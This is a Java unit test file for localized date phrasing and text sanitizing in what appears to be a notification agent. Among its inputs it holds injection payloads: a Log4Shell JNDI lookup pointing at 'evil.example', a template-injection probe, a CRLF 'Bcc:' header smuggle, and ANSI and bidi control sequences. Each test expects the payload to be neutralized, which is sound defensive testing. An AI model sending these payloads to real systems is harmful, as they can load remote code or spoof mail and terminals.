package org.keyturn.agent.notify;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class WordsTest {

  @ParameterizedTest(name = "{0} for a reader of \"{1}\" in {2}: {3}, {4}, {5}")
  @CsvSource({
    "2026-12-08T13:30:00Z, en, Europe/Amsterdam, Tuesday 8 December, 14:30, in 14 days",
    "2026-12-08T13:30:00Z, nl, Europe/Amsterdam, dinsdag 8 december, 14:30, over 14 dagen",
    // The zone decides the day.
    "2026-12-08T23:30:00Z, en, Europe/Amsterdam, Wednesday 9 December, 00:30, in 15 days",
    "2026-12-08T23:30:00Z, en, nowhere, Tuesday 8 December, 23:30, in 14 days",
    "2027-01-05T08:00:00Z, nl, UTC, dinsdag 5 januari 2027, 08:00, over 42 dagen",
    "2026-11-25T08:00:00Z, en, UTC, Wednesday 25 November, 08:00, in 1 day",
    "2026-11-25T08:00:00Z, nl, UTC, woensdag 25 november, 08:00, over 1 dag",
    "2026-11-25T07:59:59Z, en, UTC, Wednesday 25 November, 07:59, in 23 hours",
    "2026-11-24T10:00:00Z, nl, UTC, dinsdag 24 november, 10:00, over 2 uur",
    "2026-11-24T09:00:00Z, en, UTC, Tuesday 24 November, 09:00, in 1 hour",
    "2026-11-24T09:00:00Z, nl, UTC, dinsdag 24 november, 09:00, over 1 uur",
    "2026-11-24T08:59:59Z, en, UTC, Tuesday 24 November, 08:59, in 59 minutes",
    "2026-11-24T08:01:00Z, nl, UTC, dinsdag 24 november, 08:01, over 1 minuut",
    "2026-11-24T08:00:01Z, en, UTC, Tuesday 24 November, 08:00, in 1 minute",
    "2026-11-24T08:00:00Z, en, UTC, Tuesday 24 November, 08:00, now",
    "2026-11-23T08:00:00Z, nl, UTC, maandag 23 november, 08:00, nu",
  })
  void dates_and_spans_are_in_the_readers_words(
      Instant instant, String language, String zone, String date, String time, String in) {
    ReaderTime reader = ReaderTime.of(Language.of(language), zone);
    assertThat(reader.date(instant, People.NOW)).isEqualTo(date);
    assertThat(reader.time(instant)).isEqualTo(time);
    assertThat(reader.in(instant, People.NOW)).isEqualTo(in);
  }

  @ParameterizedTest(name = "preferredLanguage {0} ⇒ {1}")
  @CsvSource({
    "nl, DUTCH",
    "nl-BE, DUTCH",
    "nl_NL, DUTCH",
    "'de, nl;q=0.8, en;q=0.5', DUTCH",
    "'en, nl', ENGLISH",
    "fr, ENGLISH",
    "'', ENGLISH",
    "'*', ENGLISH",
    "'nl;q=x', ENGLISH",
    "'${jndi:x}', ENGLISH",
  })
  void the_language_is_the_best_of_ours(String preferred, Language expected) {
    assertThat(Language.of(preferred)).isEqualTo(expected);
  }

  @ParameterizedTest(name = "{0} ⇒ {1}")
  @CsvSource(
      delimiter = '>',
      value = {
        "Fenna de Vries > Fenna de Vries",
        "Siân O’Neil-Brontë (HR), Jr. > Siân O’Neil-Brontë (HR), Jr.",
        "J.R.R. Tolkien > J.R.R. Tolkien",
        "李小龍 > 李小龍",
        "${jndi:ldap://evil.example/a} > jndi ldap evil. example a",
        "{{7*7}} > the.login",
        "'   ' > the.login",
        "https://evil.example > https evil. example",
      })
  void a_name_is_a_name(String raw, String expected) {
    assertThat(NeutralText.name(raw, "the.login")).isEqualTo(expected);
  }

  @Test
  void a_line_is_one_line() {
    assertThat(NeutralText.line("a\r\nBcc: b\u2028c\u0085d\0e\tf")).isEqualTo("a Bcc: b c d e f");
    assertThat(NeutralText.line("\u001b[31mred\u001b[0m \u001b]0;title\u0007x\u009b2Jy"))
        .isEqualTo("red xy");
    assertThat(NeutralText.line("pay\u202eload\u200b \ufeffx")).isEqualTo("payload x");
    assertThat(NeutralText.line("x".repeat(100_000))).hasSize(256).endsWith("…");
    assertThat(NeutralText.name("🦊 " + "é".repeat(100), "l")).hasSize(64);
  }
}
